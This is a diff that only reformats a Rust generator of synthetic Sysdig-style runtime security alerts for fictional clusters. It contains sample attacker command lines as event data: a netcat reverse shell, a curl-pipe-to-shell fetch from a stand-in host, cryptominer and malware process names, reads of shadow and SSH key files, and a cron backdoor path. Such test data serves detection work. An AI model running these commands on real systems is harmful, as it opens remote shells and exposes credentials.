@@ -101,14 +101,20 @@ const CLUSTERS: &[Cluster] = &[
         provider: "azure",
         region: "westeurope",
         account: "0b6f2a4e-9c1d-4e7a-8f3b-2d5c6e7f8a91",
-        nodes: &["aks-nodepool1-38121755-vmss000000", "aks-nodepool1-38121755-vmss000001"],
+        nodes: &[
+            "aks-nodepool1-38121755-vmss000000",
+            "aks-nodepool1-38121755-vmss000001",
+        ],
     },
     Cluster {
         name: "onprem-k8s-dc2",
         provider: "",
         region: "",
         account: "",
-        nodes: &["k8s-worker-01.dc2.acme.internal", "k8s-worker-02.dc2.acme.internal"],
+        nodes: &[
+            "k8s-worker-01.dc2.acme.internal",
+            "k8s-worker-02.dc2.acme.internal",
+        ],
     },
 ];
 
@@ -122,18 +128,102 @@ struct Workload {
 }
 
 const WORKLOADS: &[Workload] = &[
-    Workload { name: "checkout-api", kind: "deployment", namespace: "payments", repo: "docker.io/acme/checkout-api", tag: "1.14.2", container: "checkout-api" },
-    Workload { name: "web-frontend", kind: "deployment", namespace: "web", repo: "ghcr.io/acme/web-frontend", tag: "2.3.0", container: "nginx" },
-    Workload { name: "node-exporter", kind: "daemonset", namespace: "monitoring", repo: "quay.io/prometheus/node-exporter", tag: "v1.6.1", container: "node-exporter" },
-    Workload { name: "postgres", kind: "statefulset", namespace: "data", repo: "docker.io/library/postgres", tag: "15.4", container: "postgres" },
-    Workload { name: "coredns", kind: "deployment", namespace: "kube-system", repo: "registry.k8s.io/coredns/coredns", tag: "v1.10.1", container: "coredns" },
-    Workload { name: "curl-sample-app", kind: "deployment", namespace: "default", repo: "docker.io/radial/busyboxplus", tag: "curl", container: "curl-sample-app" },
-    Workload { name: "redis", kind: "statefulset", namespace: "data", repo: "docker.io/library/redis", tag: "7.2.1", container: "redis" },
-    Workload { name: "fluent-bit", kind: "daemonset", namespace: "monitoring", repo: "cr.fluentbit.io/fluent/fluent-bit", tag: "2.1.8", container: "fluent-bit" },
-    Workload { name: "orders-worker", kind: "deployment", namespace: "payments", repo: "docker.io/acme/orders-worker", tag: "0.9.7", container: "worker" },
-    Workload { name: "jenkins-agent", kind: "deployment", namespace: "ci", repo: "docker.io/jenkins/inbound-agent", tag: "3107.v665000b_51092-15", container: "jnlp" },
-    Workload { name: "kafka", kind: "statefulset", namespace: "data", repo: "docker.io/bitnami/kafka", tag: "3.5.1", container: "kafka" },
-    Workload { name: "admin-portal", kind: "deployment", namespace: "web", repo: "ghcr.io/acme/admin-portal", tag: "5.0.3", container: "admin-portal" },
+    Workload {
+        name: "checkout-api",
+        kind: "deployment",
+        namespace: "payments",
+        repo: "docker.io/acme/checkout-api",
+        tag: "1.14.2",
+        container: "checkout-api",
+    },
+    Workload {
+        name: "web-frontend",
+        kind: "deployment",
+        namespace: "web",
+        repo: "ghcr.io/acme/web-frontend",
+        tag: "2.3.0",
+        container: "nginx",
+    },
+    Workload {
+        name: "node-exporter",
+        kind: "daemonset",
+        namespace: "monitoring",
+        repo: "quay.io/prometheus/node-exporter",
+        tag: "v1.6.1",
+        container: "node-exporter",
+    },
+    Workload {
+        name: "postgres",
+        kind: "statefulset",
+        namespace: "data",
+        repo: "docker.io/library/postgres",
+        tag: "15.4",
+        container: "postgres",
+    },
+    Workload {
+        name: "coredns",
+        kind: "deployment",
+        namespace: "kube-system",
+        repo: "registry.k8s.io/coredns/coredns",
+        tag: "v1.10.1",
+        container: "coredns",
+    },
+    Workload {
+        name: "curl-sample-app",
+        kind: "deployment",
+        namespace: "default",
+        repo: "docker.io/radial/busyboxplus",
+        tag: "curl",
+        container: "curl-sample-app",
+    },
+    Workload {
+        name: "redis",
+        kind: "statefulset",
+        namespace: "data",
+        repo: "docker.io/library/redis",
+        tag: "7.2.1",
+        container: "redis",
+    },
+    Workload {
+        name: "fluent-bit",
+        kind: "daemonset",
+        namespace: "monitoring",
+        repo: "cr.fluentbit.io/fluent/fluent-bit",
+        tag: "2.1.8",
+        container: "fluent-bit",
+    },
+    Workload {
+        name: "orders-worker",
+        kind: "deployment",
+        namespace: "payments",
+        repo: "docker.io/acme/orders-worker",
+        tag: "0.9.7",
+        container: "worker",
+    },
+    Workload {
+        name: "jenkins-agent",
+        kind: "deployment",
+        namespace: "ci",
+        repo: "docker.io/jenkins/inbound-agent",
+        tag: "3107.v665000b_51092-15",
+        container: "jnlp",
+    },
+    Workload {
+        name: "kafka",
+        kind: "statefulset",
+        namespace: "data",
+        repo: "docker.io/bitnami/kafka",
+        tag: "3.5.1",
+        container: "kafka",
+    },
+    Workload {
+        name: "admin-portal",
+        kind: "deployment",
+        namespace: "web",
+        repo: "ghcr.io/acme/admin-portal",
+        tag: "5.0.3",
+        container: "admin-portal",
+    },
 ];
 
 #[derive(Clone, Copy, PartialEq, Eq)]
@@ -162,28 +252,249 @@ struct Rule {
 const NOTABLE: &str = "Sysdig Runtime Notable Events";
 const NOTABLE_DESC: &str = "Rules that flag behaviour worth a look: often benign in development, suspicious in production.";
 const THREAT: &str = "Sysdig Runtime Threat Detection";
-const THREAT_DESC: &str = "Rules that match known attacker techniques against hosts and containers.";
+const THREAT_DESC: &str =
+    "Rules that match known attacker techniques against hosts and containers.";
 
 const RULES: &[Rule] = &[
-    Rule { kind: Kind::Exec, rule: "Terminal shell in container", policy: NOTABLE, description: NOTABLE_DESC, rule_type: 6, severities: &[4, 5], tags: &["container", "shell", "MITRE", "MITRE_T1059_command_and_scripting_interpreter", "MITRE_TA0002_execution"], weight: 14 },
-    Rule { kind: Kind::File, rule: "Read sensitive file untrusted", policy: THREAT, description: THREAT_DESC, rule_type: 6, severities: &[2, 3], tags: &["filesystem", "MITRE", "MITRE_T1555_credentials_from_password_stores", "MITRE_TA0006_credential_access"], weight: 9 },
-    Rule { kind: Kind::Connect, rule: "Contact EC2 Instance Metadata Service From Container", policy: THREAT, description: THREAT_DESC, rule_type: 6, severities: &[3, 4], tags: &["network", "aws", "container", "MITRE", "MITRE_T1552.005_unsecured_credentials_cloud_instance_metadata_api"], weight: 8 },
-    Rule { kind: Kind::Connect, rule: "Outbound Connection to C2 Servers", policy: THREAT, description: THREAT_DESC, rule_type: 6, severities: &[0, 1], tags: &["network", "MITRE", "MITRE_TA0011_command_and_control"], weight: 5 },
-    Rule { kind: Kind::Connect, rule: "Unexpected outbound connection destination", policy: "Network Activity", description: "Connections from workloads to destinations outside their usual set.", rule_type: 4, severities: &[5, 6], tags: &["network", "NIST", "NIST_800-53_SC-7"], weight: 7 },
-    Rule { kind: Kind::Container, rule: "Launch Privileged Container", policy: NOTABLE, description: NOTABLE_DESC, rule_type: 6, severities: &[3], tags: &["container", "cis", "MITRE", "MITRE_T1610_deploy_container", "MITRE_T1611_escape_to_host"], weight: 4 },
-    Rule { kind: Kind::Container, rule: "Launch Sensitive Mount Container", policy: NOTABLE, description: NOTABLE_DESC, rule_type: 6, severities: &[5], tags: &["container", "SOC2", "MITRE", "MITRE_T1611_escape_to_host"], weight: 4 },
-    Rule { kind: Kind::File, rule: "Write below etc", policy: NOTABLE, description: NOTABLE_DESC, rule_type: 6, severities: &[4, 5], tags: &["filesystem", "MITRE", "MITRE_T1098_account_manipulation", "MITRE_TA0003_persistence"], weight: 6 },
-    Rule { kind: Kind::Exec, rule: "Launch Package Management Process in Container", policy: NOTABLE, description: NOTABLE_DESC, rule_type: 6, severities: &[6], tags: &["container", "process", "software_mgmt", "MITRE", "MITRE_TA0003_persistence"], weight: 8 },
-    Rule { kind: Kind::Exec, rule: "Netcat Remote Code Execution in Container", policy: THREAT, description: THREAT_DESC, rule_type: 6, severities: &[0, 1], tags: &["container", "network", "process", "MITRE", "MITRE_T1059_command_and_scripting_interpreter"], weight: 2 },
-    Rule { kind: Kind::Exec, rule: "Drift Detection", policy: "Container Drift", description: "Executables that were not part of the container image when it started.", rule_type: 7, severities: &[2, 3], tags: &["container", "drift"], weight: 4 },
-    Rule { kind: Kind::Exec, rule: "Malware Detection", policy: "Malware", description: "Processes whose binary hash matches known malware.", rule_type: 8, severities: &[0], tags: &["malware"], weight: 2 },
-    Rule { kind: Kind::Setuid, rule: "Non sudo setuid", policy: NOTABLE, description: NOTABLE_DESC, rule_type: 6, severities: &[5, 6], tags: &["host", "users", "MITRE", "MITRE_T1548.001_setuid_and_setgid"], weight: 4 },
-    Rule { kind: Kind::File, rule: "Clear Log Activities", policy: THREAT, description: THREAT_DESC, rule_type: 6, severities: &[2, 4], tags: &["file", "MITRE", "MITRE_T1070_indicator_removal_on_host"], weight: 3 },
-    Rule { kind: Kind::K8sAudit, rule: "Attach/Exec Pod", policy: "Kubernetes Activity", description: "Interactive access to running pods through the Kubernetes API.", rule_type: 6, severities: &[5, 6], tags: &["k8s", "MITRE", "MITRE_T1609_container_administration_command"], weight: 5 },
-    Rule { kind: Kind::K8sAudit, rule: "Create Privileged Pod", policy: "Kubernetes Activity", description: "Interactive access to running pods through the Kubernetes API.", rule_type: 6, severities: &[3], tags: &["k8s", "MITRE", "MITRE_T1610_deploy_container"], weight: 2 },
-    Rule { kind: Kind::CloudTrail, rule: "Console Login Without MFA", policy: "AWS Best Practices", description: "AWS account activity that departs from recommended practice.", rule_type: 6, severities: &[3, 4], tags: &["aws", "cloud", "MITRE", "MITRE_T1078_valid_accounts"], weight: 3 },
-    Rule { kind: Kind::CloudTrail, rule: "Delete Bucket Encryption", policy: "AWS Best Practices", description: "AWS account activity that departs from recommended practice.", rule_type: 6, severities: &[2], tags: &["aws", "cloud", "aws_s3"], weight: 2 },
-    Rule { kind: Kind::AuditTrail, rule: "Command executed", policy: "Activity Audit", description: "Commands run in containers and hosts, kept for audit.", rule_type: 5, severities: &[7], tags: &["audit"], weight: 8 },
+    Rule {
+        kind: Kind::Exec,
+        rule: "Terminal shell in container",
+        policy: NOTABLE,
+        description: NOTABLE_DESC,
+        rule_type: 6,
+        severities: &[4, 5],
+        tags: &[
+            "container",
+            "shell",
+            "MITRE",
+            "MITRE_T1059_command_and_scripting_interpreter",
+            "MITRE_TA0002_execution",
+        ],
+        weight: 14,
+    },
+    Rule {
+        kind: Kind::File,
+        rule: "Read sensitive file untrusted",
+        policy: THREAT,
+        description: THREAT_DESC,
+        rule_type: 6,
+        severities: &[2, 3],
+        tags: &[
+            "filesystem",
+            "MITRE",
+            "MITRE_T1555_credentials_from_password_stores",
+            "MITRE_TA0006_credential_access",
+        ],
+        weight: 9,
+    },
+    Rule {
+        kind: Kind::Connect,
+        rule: "Contact EC2 Instance Metadata Service From Container",
+        policy: THREAT,
+        description: THREAT_DESC,
+        rule_type: 6,
+        severities: &[3, 4],
+        tags: &[
+            "network",
+            "aws",
+            "container",
+            "MITRE",
+            "MITRE_T1552.005_unsecured_credentials_cloud_instance_metadata_api",
+        ],
+        weight: 8,
+    },
+    Rule {
+        kind: Kind::Connect,
+        rule: "Outbound Connection to C2 Servers",
+        policy: THREAT,
+        description: THREAT_DESC,
+        rule_type: 6,
+        severities: &[0, 1],
+        tags: &["network", "MITRE", "MITRE_TA0011_command_and_control"],
+        weight: 5,
+    },
+    Rule {
+        kind: Kind::Connect,
+        rule: "Unexpected outbound connection destination",
+        policy: "Network Activity",
+        description: "Connections from workloads to destinations outside their usual set.",
+        rule_type: 4,
+        severities: &[5, 6],
+        tags: &["network", "NIST", "NIST_800-53_SC-7"],
+        weight: 7,
+    },
+    Rule {
+        kind: Kind::Container,
+        rule: "Launch Privileged Container",
+        policy: NOTABLE,
+        description: NOTABLE_DESC,
+        rule_type: 6,
+        severities: &[3],
+        tags: &[
+            "container",
+            "cis",
+            "MITRE",
+            "MITRE_T1610_deploy_container",
+            "MITRE_T1611_escape_to_host",
+        ],
+        weight: 4,
+    },
+    Rule {
+        kind: Kind::Container,
+        rule: "Launch Sensitive Mount Container",
+        policy: NOTABLE,
+        description: NOTABLE_DESC,
+        rule_type: 6,
+        severities: &[5],
+        tags: &["container", "SOC2", "MITRE", "MITRE_T1611_escape_to_host"],
+        weight: 4,
+    },
+    Rule {
+        kind: Kind::File,
+        rule: "Write below etc",
+        policy: NOTABLE,
+        description: NOTABLE_DESC,
+        rule_type: 6,
+        severities: &[4, 5],
+        tags: &[
+            "filesystem",
+            "MITRE",
+            "MITRE_T1098_account_manipulation",
+            "MITRE_TA0003_persistence",
+        ],
+        weight: 6,
+    },
+    Rule {
+        kind: Kind::Exec,
+        rule: "Launch Package Management Process in Container",
+        policy: NOTABLE,
+        description: NOTABLE_DESC,
+        rule_type: 6,
+        severities: &[6],
+        tags: &[
+            "container",
+            "process",
+            "software_mgmt",
+            "MITRE",
+            "MITRE_TA0003_persistence",
+        ],
+        weight: 8,
+    },
+    Rule {
+        kind: Kind::Exec,
+        rule: "Netcat Remote Code Execution in Container",
+        policy: THREAT,
+        description: THREAT_DESC,
+        rule_type: 6,
+        severities: &[0, 1],
+        tags: &[
+            "container",
+            "network",
+            "process",
+            "MITRE",
+            "MITRE_T1059_command_and_scripting_interpreter",
+        ],
+        weight: 2,
+    },
+    Rule {
+        kind: Kind::Exec,
+        rule: "Drift Detection",
+        policy: "Container Drift",
+        description: "Executables that were not part of the container image when it started.",
+        rule_type: 7,
+        severities: &[2, 3],
+        tags: &["container", "drift"],
+        weight: 4,
+    },
+    Rule {
+        kind: Kind::Exec,
+        rule: "Malware Detection",
+        policy: "Malware",
+        description: "Processes whose binary hash matches known malware.",
+        rule_type: 8,
+        severities: &[0],
+        tags: &["malware"],
+        weight: 2,
+    },
+    Rule {
+        kind: Kind::Setuid,
+        rule: "Non sudo setuid",
+        policy: NOTABLE,
+        description: NOTABLE_DESC,
+        rule_type: 6,
+        severities: &[5, 6],
+        tags: &[
+            "host",
+            "users",
+            "MITRE",
+            "MITRE_T1548.001_setuid_and_setgid",
+        ],
+        weight: 4,
+    },
+    Rule {
+        kind: Kind::File,
+        rule: "Clear Log Activities",
+        policy: THREAT,
+        description: THREAT_DESC,
+        rule_type: 6,
+        severities: &[2, 4],
+        tags: &["file", "MITRE", "MITRE_T1070_indicator_removal_on_host"],
+        weight: 3,
+    },
+    Rule {
+        kind: Kind::K8sAudit,
+        rule: "Attach/Exec Pod",
+        policy: "Kubernetes Activity",
+        description: "Interactive access to running pods through the Kubernetes API.",
+        rule_type: 6,
+        severities: &[5, 6],
+        tags: &[
+            "k8s",
+            "MITRE",
+            "MITRE_T1609_container_administration_command",
+        ],
+        weight: 5,
+    },
+    Rule {
+        kind: Kind::K8sAudit,
+        rule: "Create Privileged Pod",
+        policy: "Kubernetes Activity",
+        description: "Interactive access to running pods through the Kubernetes API.",
+        rule_type: 6,
+        severities: &[3],
+        tags: &["k8s", "MITRE", "MITRE_T1610_deploy_container"],
+        weight: 2,
+    },
+    Rule {
+        kind: Kind::CloudTrail,
+        rule: "Console Login Without MFA",
+        policy: "AWS Best Practices",
+        description: "AWS account activity that departs from recommended practice.",
+        rule_type: 6,
+        severities: &[3, 4],
+        tags: &["aws", "cloud", "MITRE", "MITRE_T1078_valid_accounts"],
+        weight: 3,
+    },
+    Rule {
+        kind: Kind::CloudTrail,
+        rule: "Delete Bucket Encryption",
+        policy: "AWS Best Practices",
+        description: "AWS account activity that departs from recommended practice.",
+        rule_type: 6,
+        severities: &[2],
+        tags: &["aws", "cloud", "aws_s3"],
+        weight: 2,
+    },
+    Rule {
+        kind: Kind::AuditTrail,
+        rule: "Command executed",
+        policy: "Activity Audit",
+        description: "Commands run in containers and hosts, kept for audit.",
+        rule_type: 5,
+        severities: &[7],
+        tags: &["audit"],
+        weight: 8,
+    },
 ];
 
 fn pick_rule(rng: &mut Rng) -> &'static Rule {
@@ -205,12 +516,20 @@ fn public_ip(rng: &mut Rng) -> String {
 }
 
 fn pod_ip(rng: &mut Rng) -> String {
-    format!("10.{}.{}.{}", 1 + rng.below(3), rng.below(256), 2 + rng.below(250))
+    format!(
+        "10.{}.{}.{}",
+        1 + rng.below(3),
+        rng.below(256),
+        2 + rng.below(250)
+    )
 }
 
 fn mac(rng: &mut Rng) -> String {
     let h = rng.hex(12);
-    (0..6).map(|i| &h[2 * i..2 * i + 2]).collect::<Vec<_>>().join(":")
+    (0..6)
+        .map(|i| &h[2 * i..2 * i + 2])
+        .collect::<Vec<_>>()
+        .join(":")
 }
 
 /// What a process looked like: name, cmdline, exepath, parent name and cmdline, ancestors.
@@ -234,7 +553,11 @@ fn process_for(rule: &Rule, rng: &mut Rng) -> Proc {
     };
     match rule.rule {
         "Terminal shell in container" => {
-            let (n, exe) = *rng.pick(&[("bash", "/bin/bash"), ("sh", "/bin/sh"), ("zsh", "/usr/bin/zsh")]);
+            let (n, exe) = *rng.pick(&[
+                ("bash", "/bin/bash"),
+                ("sh", "/bin/sh"),
+                ("zsh", "/usr/bin/zsh"),
+            ]);
             shell(n, &format!("{n} -il"), exe, "runc", "runc init")
         }
         "Launch Package Management Process in Container" => {
@@ -248,15 +571,33 @@ fn process_for(rule: &Rule, rng: &mut Rng) -> Proc {
         }
         "Netcat Remote Code Execution in Container" => {
             let ip = public_ip(rng);
-            shell("nc", &format!("nc -e /bin/sh {ip} 4444"), "/usr/bin/nc", "sh", "sh -c curl -s http://x/i.sh | sh")
+            shell(
+                "nc",
+                &format!("nc -e /bin/sh {ip} 4444"),
+                "/usr/bin/nc",
+                "sh",
+                "sh -c curl -s http://x/i.sh | sh",
+            )
         }
         "Drift Detection" => {
             let n = *rng.pick(&["xmrig", "kdevtmpfsi", "dropper", "tsunami"]);
-            shell(n, &format!("/tmp/{n} --background"), &format!("/tmp/{n}"), "sh", "sh -c /tmp/run.sh")
+            shell(
+                n,
+                &format!("/tmp/{n} --background"),
+                &format!("/tmp/{n}"),
+                "sh",
+                "sh -c /tmp/run.sh",
+            )
         }
         "Malware Detection" => {
             let n = *rng.pick(&["kinsing", "xmrig", "mirai.x86"]);
-            shell(n, &format!("./{n}"), &format!("/dev/shm/{n}"), "bash", "bash")
+            shell(
+                n,
+                &format!("./{n}"),
+                &format!("/dev/shm/{n}"),
+                "bash",
+                "bash",
+            )
         }
         _ => match rule.kind {
             Kind::File => {
@@ -269,8 +610,19 @@ fn process_for(rule: &Rule, rng: &mut Rng) -> Proc {
                 shell(n, cmd, exe, "bash", "bash -il")
             }
             Kind::Connect => {
-                let (n, exe) = *rng.pick(&[("curl", "/usr/bin/curl"), ("wget", "/usr/bin/wget"), ("python3", "/usr/bin/python3"), ("java", "/opt/java/openjdk/bin/java")]);
-                shell(n, &format!("{n} -s http://upstream/health"), exe, "sh", "sh")
+                let (n, exe) = *rng.pick(&[
+                    ("curl", "/usr/bin/curl"),
+                    ("wget", "/usr/bin/wget"),
+                    ("python3", "/usr/bin/python3"),
+                    ("java", "/opt/java/openjdk/bin/java"),
+                ]);
+                shell(
+                    n,
+                    &format!("{n} -s http://upstream/health"),
+                    exe,
+                    "sh",
+                    "sh",
+                )
             }
             Kind::Setuid => shell("su", "su - postgres", "/bin/su", "bash", "bash"),
             Kind::AuditTrail => {
@@ -355,7 +707,13 @@ fn event(rng: &mut Rng, ts: i64, node_ids: &[(i64, String)]) -> Value {
     let proc_ = process_for(rule, rng);
     let pid = 1000 + rng.below(60_000);
     let ppid = 1 + rng.below(pid);
-    let (user, uid) = *rng.pick(&[("root", "0"), ("root", "0"), ("www-data", "33"), ("postgres", "999"), ("app", "1000")]);
+    let (user, uid) = *rng.pick(&[
+        ("root", "0"),
+        ("root", "0"),
+        ("www-data", "33"),
+        ("postgres", "999"),
+        ("app", "1000"),
+    ]);
     let evt_type: Option<&str> = match rule.kind {
         Kind::Exec | Kind::AuditTrail => Some("execve"),
         Kind::File => Some(*rng.pick(&["openat", "open"])),
@@ -366,18 +724,39 @@ fn event(rng: &mut Rng, ts: i64, node_ids: &[(i64, String)]) -> Value {
     };
     match rule.kind {
         Kind::K8sAudit => {
-            let who = *rng.pick(&["alice@acme.example", "bob@acme.example", "system:serviceaccount:ci:deployer", "kubernetes-admin"]);
+            let who = *rng.pick(&[
+                "alice@acme.example",
+                "bob@acme.example",
+                "system:serviceaccount:ci:deployer",
+                "kubernetes-admin",
+            ]);
             put(&mut fields, "ka.auth.decision", "allow");
             put(&mut fields, "ka.target.name", pod.clone());
             put(&mut fields, "ka.target.namespace", w.namespace);
             put(&mut fields, "ka.target.resource", "pods");
-            put(&mut fields, "ka.target.subresource", if rule.rule.starts_with("Attach") { "exec" } else { "<NA>" });
+            put(
+                &mut fields,
+                "ka.target.subresource",
+                if rule.rule.starts_with("Attach") {
+                    "exec"
+                } else {
+                    "<NA>"
+                },
+            );
             put(&mut fields, "ka.user.name", who);
             put(&mut fields, "ka.verb", "create");
         }
         Kind::CloudTrail => {
-            let who = *rng.pick(&["arn:aws:iam::845120736915:user/alice", "arn:aws:iam::845120736915:user/ci-bot", "arn:aws:sts::845120736915:assumed-role/Admin/bob"]);
-            let name = if rule.rule.starts_with("Console") { "ConsoleLogin" } else { "DeleteBucketEncryption" };
+            let who = *rng.pick(&[
+                "arn:aws:iam::845120736915:user/alice",
+                "arn:aws:iam::845120736915:user/ci-bot",
+                "arn:aws:sts::845120736915:assumed-role/Admin/bob",
+            ]);
+            let name = if rule.rule.starts_with("Console") {
+                "ConsoleLogin"
+            } else {
+                "DeleteBucketEncryption"
+            };
             put(&mut fields, "ct.name", name);
             put(&mut fields, "ct.region", "us-east-1");
             put(&mut fields, "ct.srcip", public_ip(rng));
@@ -404,34 +783,89 @@ fn event(rng: &mut Rng, ts: i64, node_ids: &[(i64, String)]) -> Value {
                     let src = pod_ip(rng);
                     let (dst, port) = match rule.rule {
                         r if r.starts_with("Contact EC2") => ("169.254.169.254".to_owned(), 80),
-                        r if r.starts_with("Outbound Connection to C2") => (public_ip(rng), *rng.pick(&[443u64, 4444, 8080])),
-                        _ => (if rng.chance(50) { public_ip(rng) } else { pod_ip(rng) }, *rng.pick(&[443u64, 5432, 6379, 9092, 53])),
+                        r if r.starts_with("Outbound Connection to C2") => {
+                            (public_ip(rng), *rng.pick(&[443u64, 4444, 8080]))
+                        }
+                        _ => (
+                            if rng.chance(50) {
+                                public_ip(rng)
+                            } else {
+                                pod_ip(rng)
+                            },
+                            *rng.pick(&[443u64, 5432, 6379, 9092, 53]),
+                        ),
                     };
                     let sport = 32768 + rng.below(28_000);
-                    put(&mut fields, "fd.l4proto", if port == 53 { "udp" } else { "tcp" });
-                    put(&mut fields, "fd.name", format!("{src}:{sport}->{dst}:{port}"));
+                    put(
+                        &mut fields,
+                        "fd.l4proto",
+                        if port == 53 { "udp" } else { "tcp" },
+                    );
+                    put(
+                        &mut fields,
+                        "fd.name",
+                        format!("{src}:{sport}->{dst}:{port}"),
+                    );
                 }
                 Kind::File => {
                     let path = match rule.rule {
-                        "Read sensitive file untrusted" => *rng.pick(&["/etc/shadow", "/etc/sudoers", "/root/.ssh/id_rsa", "/etc/pam.d/common-auth"]),
-                        "Clear Log Activities" => *rng.pick(&["/var/log/auth.log", "/var/log/syslog", "/var/log/nginx/access.log"]),
-                        _ => *rng.pick(&["/etc/hosts", "/etc/passwd", "/etc/cron.d/backdoor", "/etc/ld.so.preload"]),
+                        "Read sensitive file untrusted" => *rng.pick(&[
+                            "/etc/shadow",
+                            "/etc/sudoers",
+                            "/root/.ssh/id_rsa",
+                            "/etc/pam.d/common-auth",
+                        ]),
+                        "Clear Log Activities" => *rng.pick(&[
+                            "/var/log/auth.log",
+                            "/var/log/syslog",
+                            "/var/log/nginx/access.log",
+                        ]),
+                        _ => *rng.pick(&[
+                            "/etc/hosts",
+                            "/etc/passwd",
+                            "/etc/cron.d/backdoor",
+                            "/etc/ld.so.preload",
+                        ]),
                     };
                     put(&mut fields, "fd.name", path);
                 }
                 Kind::Container => {
-                    put(&mut fields, "container.mounts", "/proc:/host/proc::false:private,/:/host/root::false:rslave");
-                    put(&mut fields, "container.privileged", if rule.rule.contains("Privileged") { "true" } else { "false" });
+                    put(
+                        &mut fields,
+                        "container.mounts",
+                        "/proc:/host/proc::false:private,/:/host/root::false:rslave",
+                    );
+                    put(
+                        &mut fields,
+                        "container.privileged",
+                        if rule.rule.contains("Privileged") {
+                            "true"
+                        } else {
+                            "false"
+                        },
+                    );
                 }
                 _ => {}
             }
-            put(&mut fields, "group.gid", if user == "root" { "0" } else { uid });
-            put(&mut fields, "group.name", if user == "root" { "root" } else { user });
+            put(
+                &mut fields,
+                "group.gid",
+                if user == "root" { "0" } else { uid },
+            );
+            put(
+                &mut fields,
+                "group.name",
+                if user == "root" { "root" } else { user },
+            );
             if rule.kind != Kind::Container {
                 for (i, a) in proc_.anames.iter().enumerate() {
                     put(&mut fields, &format!("proc.aname[{}]", i + 2), *a);
                 }
-                put(&mut fields, &format!("proc.aname[{}]", proc_.anames.len() + 2), "<NA>");
+                put(
+                    &mut fields,
+                    &format!("proc.aname[{}]", proc_.anames.len() + 2),
+                    "<NA>",
+                );
             }
             if rule.kind == Kind::Container {
                 let name = format!("container:{container_id}");
@@ -446,7 +880,11 @@ fn event(rng: &mut Rng, ts: i64, node_ids: &[(i64, String)]) -> Value {
                 put(&mut fields, "proc.sid", "-1");
             } else {
                 put(&mut fields, "proc.cmdline", proc_.cmdline);
-                put(&mut fields, "proc.cwd", *rng.pick(&["/", "/app/", "/root/", "/tmp/"]));
+                put(
+                    &mut fields,
+                    "proc.cwd",
+                    *rng.pick(&["/", "/app/", "/root/", "/tmp/"]),
+                );
                 put(&mut fields, "proc.exepath", proc_.exepath);
                 if rule.rule == "Malware Detection" {
                     put(&mut fields, "proc.hash.sha256", rng.hex(64));
@@ -458,8 +896,16 @@ fn event(rng: &mut Rng, ts: i64, node_ids: &[(i64, String)]) -> Value {
                 put(&mut fields, "proc.ppid", ppid.to_string());
                 put(&mut fields, "proc.sid", (1 + rng.below(pid)).to_string());
             }
-            put(&mut fields, "user.loginname", if rng.chance(70) { "<NA>" } else { user });
-            put(&mut fields, "user.loginuid", if rng.chance(70) { "-1" } else { uid });
+            put(
+                &mut fields,
+                "user.loginname",
+                if rng.chance(70) { "<NA>" } else { user },
+            );
+            put(
+                &mut fields,
+                "user.loginuid",
+                if rng.chance(70) { "-1" } else { uid },
+            );
             put(&mut fields, "user.name", user);
             put(&mut fields, "user.uid", uid);
         }
@@ -520,13 +966,29 @@ fn event(rng: &mut Rng, ts: i64, node_ids: &[(i64, String)]) -> Value {
     }
     if has_container || rule.kind == Kind::K8sAudit {
         if has_container {
-            put(&mut labels, "container.image.digest", format!("sha256:{}", rng.hex(64)));
+            put(
+                &mut labels,
+                "container.image.digest",
+                format!("sha256:{}", rng.hex(64)),
+            );
             put(&mut labels, "container.image.id", rng.hex(12));
             put(&mut labels, "container.image.repo", w.repo);
             put(&mut labels, "container.image.tag", w.tag);
-            put(&mut labels, "container.label.io.kubernetes.container.name", w.container);
-            put(&mut labels, "container.label.io.kubernetes.pod.name", pod.clone());
-            put(&mut labels, "container.label.io.kubernetes.pod.namespace", w.namespace);
+            put(
+                &mut labels,
+                "container.label.io.kubernetes.container.name",
+                w.container,
+            );
+            put(
+                &mut labels,
+                "container.label.io.kubernetes.pod.name",
+                pod.clone(),
+            );
+            put(
+                &mut labels,
+                "container.label.io.kubernetes.pod.namespace",
+                w.namespace,
+            );
             put(&mut labels, "container.name", w.container);
             put(&mut labels, "host.hostName", node);
             put(&mut labels, "host.mac", host_mac.clone());
@@ -547,13 +1009,26 @@ fn event(rng: &mut Rng, ts: i64, node_ids: &[(i64, String)]) -> Value {
         put(&mut labels, "kubernetes.workload.type", w.kind);
     }
 
-    let policy_id = 10_000_000 + (RULES.iter().position(|r| std::ptr::eq(r, rule)).unwrap_or(0) as i64) * 1_117;
+    let policy_id = 10_000_000
+        + (RULES
+            .iter()
+            .position(|r| std::ptr::eq(r, rule))
+            .unwrap_or(0) as i64)
+            * 1_117;
     let mut content = Map::new();
     put(&mut content, "falsePositive", false);
     put(&mut content, "fields", Value::Object(fields));
     put(&mut content, "internalRuleName", rule.rule);
     put(&mut content, "matchedOnDefault", rng.chance(10));
-    put(&mut content, "origin", if rule.policy.starts_with("Sysdig") { "Sysdig" } else { "Secure UI" });
+    put(
+        &mut content,
+        "origin",
+        if rule.policy.starts_with("Sysdig") {
+            "Sysdig"
+        } else {
+            "Secure UI"
+        },
+    );
     put(&mut content, "output", output);
     put(&mut content, "policyId", policy_id);
     put(&mut content, "ruleName", rule.rule);
@@ -576,9 +1051,33 @@ fn event(rng: &mut Rng, ts: i64, node_ids: &[(i64, String)]) -> Value {
     put(&mut ev, "name", rule.policy);
     put(&mut ev, "description", rule.description);
     put(&mut ev, "severity", severity);
-    put(&mut ev, "agentId", if rule.kind == Kind::CloudTrail { 0 } else { *agent_id });
-    put(&mut ev, "containerId", if has_container { container_id } else { String::new() });
-    put(&mut ev, "machineId", if rule.kind == Kind::CloudTrail { String::new() } else { host_mac.clone() });
+    put(
+        &mut ev,
+        "agentId",
+        if rule.kind == Kind::CloudTrail {
+            0
+        } else {
+            *agent_id
+        },
+    );
+    put(
+        &mut ev,
+        "containerId",
+        if has_container {
+            container_id
+        } else {
+            String::new()
+        },
+    );
+    put(
+        &mut ev,
+        "machineId",
+        if rule.kind == Kind::CloudTrail {
+            String::new()
+        } else {
+            host_mac.clone()
+        },
+    );
     put(&mut ev, "content", Value::Object(content));
     put(&mut ev, "labels", Value::Object(labels));
     Value::Object(ev)
